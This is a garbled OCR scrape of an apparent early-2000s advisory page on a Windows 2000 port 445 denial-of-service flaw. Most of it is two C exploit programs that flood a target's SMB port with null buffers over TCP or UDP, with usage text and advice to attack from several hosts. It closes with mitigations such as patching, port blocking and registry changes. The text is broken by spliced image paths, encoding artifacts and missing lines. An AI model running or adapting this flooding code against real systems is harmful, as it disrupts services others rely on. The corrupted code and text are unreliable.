          printf("\n Erro.Host desconhecido.\n");
          vezes = atoi(argv[3]);
          for(comeco=1;comeco<=vezes;comeco++) {
             porta = atoi(argv[2]);
             remoto.sin_family = AF_INET;
             remoto.sin_port = htons(porta);
             remoto.sin_addr = *((struct in_addr *)he->h_addr);
    /*Aqui eh a parte. Caso queira usar UDP, troque na linha abaixo o SOCK_TREAM por SOCK_DGRAM */
    /*If you wanna use UDP protocol, change at next line SOCK_STREAM by SOCK_DRAM */
             sock = socket(AF_INET, SOCK_STREAM, 0);
             if( sock < 0) {
                printf("\n Erro com os sockets. \n");
             conexao = connect(sock, (struct sockaddr *) &remoto, sizeof remoto);
             if( conexao < 0) {
                printf("\n Erro ao conectar...Saindo...\n");
         pacote = malloc(10*1024 *sizeof(char));
         printf("\nTentando enviar...\n");
             send(sock, pacote, 10*1024,0);
             if( send < 0) {
                printf("\nErro ao enviar pacotes...\n");
             printf("\nMandou %d vezes", comeco);
       printf("Provavelmente ocorreu (blue screen), ou travou.\n\n");
     Update (21 January 2003)
    *   Microsoft Windows 2000 Remote DoS       *
    *   ---       **                           *
    * Hello :)                      *
    * This is an DoS exploit that utilizes the flaw found   *
    * by KPMG Denmark, to crasch or hang any Win2k box  *
    * running the LanMan server on port 445 (ms-ds).    *
    * What it does is just a simple 10k NULL string     *
    * bombardment of port 445 TCP or UDP.           *
    *                           *
    *                                           *
    * By: Daniel Nystrom <[email protected]>        *
    * Download: www.telhack.tk / exce.darktech.org      *
    *                           *
    * Suggestions: When performing the attack, use UDP if   *
    *          you are attacking from a single host.    **          TCP only eats about 35% CPU on an AMD    *
    *Athlon XP 1800+ while UDP eats 99%.      *
    *          So if TCP is the only option, use more   *
    *          than one attacking host. All in all this *
    *              DoS is "pretty weak" and should be used  *
    *              from more than one host in each attack   *
    *              to get the best result.                  *
    *                           *
    * Compiles on: Linux (Debian 2.2r6 and RH 7.3 tested).  *
    *              Should compile on other *nix's as well.  *
    *                           *
    * Thanks: Peter Grundl, for answering my Q's :)         *
    *                           ** greets: xenogen, ifa-, zeromatic, RTJ, [email protected]    *
    *                           *
    #include <stdio.h>
    #include <sys/socket.h>
    #include <arpa/inet.h>
    #include <string.h>
    #include <unistd.h>
    #include <netdb.h>
    #include <errno.h>
    #define MICROSOFT_DS_PORT 445
    unsigned long resolveTarget(char nstarget[]);
    int main(int argc, char *argv[])
            int sock;
        int count;
        struct sockaddr_in target;
        unsigned short port =3D MICROSOFT_DS_PORT;
        char *nullbuffer;
        printf("%c[41m", 0x1B);
        fprintf(stdout, "\n--[ excE's Remote Microsoft Windows 2000 DoS =
        printf("%c[0m", 0x1B);fprintf(stdout, =
            if(argc !=3D 4)
                    fprintf(stderr, "--[ Invalid number of parameters!\n");
                    fprintf(stderr, "--[ Usage: %s <Server IP> <TCP/UDP> =
    <Send Count>\n", argv[0]);
                    fprintf(stderr, "--[ Forex: %s UDP 10000\n\n", =
        nullbuffer =3D (char *) malloc(10*1024*sizeof(char));
        fprintf(stdout, "--[ Starting attack on %s...\n", argv[1]);
        memset(&target, 0, sizeof(target));
        target.sin_family   =3D AF_INET;
        target.sin_addr.s_addr  =3D resolveTarget(argv[1]);
        target.sin_port     =3D htons(port);
        if(argv[2][0] =3D=3D 'U')
            if((sock =3Dsocket(PF_INET, SOCK_DGRAM, IPPROTO_UDP)) < 0)
                perror("socket() failed ");
            fprintf(stdout, "--[ Sending NULL byte string * %d via UDP\n", =
                if(sendto(sock, nullbuffer, strlen(nullbuffer), 0, (struct =
    sockaddr *) &target, sizeof(target)) !=3D strlen(nullbuffer))
                    perror("sendto() failed ");
                } else { printf("."); }=20
         else if(argv[2][0] =3D=3D 'T')
            fprintf(stdout, "--[ Connecting and sending NULL byte string * =
    %d...\n", atoi(argv[3]));
            if((sock =3D socket(PF_INET, SOCK_STREAM, IPPROTO_TCP)) < 0)
                perror("socket() failed ");
            if(connect(sock, (struct sockaddr *) &target, sizeof(target)) < 0)perror("connect() failed ");
                if(send(sock, nullbuffer, strlen(nullbuffer), 0) !=3D =
                    perror("send() failed ");
                } else { printf("."); }
        } else
            fprintf(stderr, "--[ Error: You must define a protocol (TCP or =
        fprintf(stdout, "--[ Finished flooding target!\n");
        fprintf(stdout, "--[ http://www.telhack.tk\n");
        return 0;
    unsigned long resolveTarget(char nstarget[])
        struct hostent *targetname;
        if((targetname=3Dgethostbyname(nstarget)) =3D=3D NULL)
            fprintf(stderr, "--[ Name lookup failed. Please enter a valid IP or =
        return *((unsigned long *) targetname->h_addr_list[0]);
        Microsoft has released a fix to the problem.
        - Disable anonymous access (NULL connections)
        This will not prevent legitimate users from abusing the vulnerability.
        - Block access to the SMB ports from untrusted networks.
        Blocking access to ports tcp/445 and tcp/139 at  the  network  perimeter
        will prevent attacks from untrusted parties.  However,  this  is  not  a
        viable solution for environment were  file  and  printing  services  are
        needed for legitimate users.
        - Shutdown the Lanman server (net stop lanmanserver)This prevents exploitation from any attacker but removes  all  file  and
        print sharing functionality from the vulnerable server. It might not  be
        a viable solution in many environments.
         Update (04 September 2002)
        You will have to disable port 445 altogether :
        Port 445 - This is a highly debated area  by  Microsoft  themselves  and
        many      others      It's      uses      are      discussed       here:
        Method 1: Steps in Windows 2000 Professional, SP2: (Please  read  others
        below before proceeding as this one may prevent
        DHCP from functioning correctly which most Cable ISPs require  and  some
        Other ISPs too)
         1.  Open Computer Management
         2.  Click on Device Manager
         3.  Select View:  Show Hidden Devices
         4.  Click on Non-Plug and Play Drivers
         5.  Open Properties for NetBIOS over TCPIP
         6.  Click on Disable
         7.  Reboot per prompt
        If you do not disable the TCP/IP NetBIOS  Helper  Service  at  the  same
        time an error will be logged to the system event log.
        You can Disable this service  in  Administrative  Tools  -  Services  if
        desired as detailed below.
        Alternate Procedure: The following information  was  developed,  tested,
        and supplied byT-1 ([email protected])
        Go to :
         Value Name: TransportBindName
         Data: \device\
        Either Rename TransportBindName  to  something  like  TransportBindNameX
        (Easier to change back later)Or Delete \device\. Then Reboot.
        The Registry tweak is more flexible becausethe NetBT driver is  allowed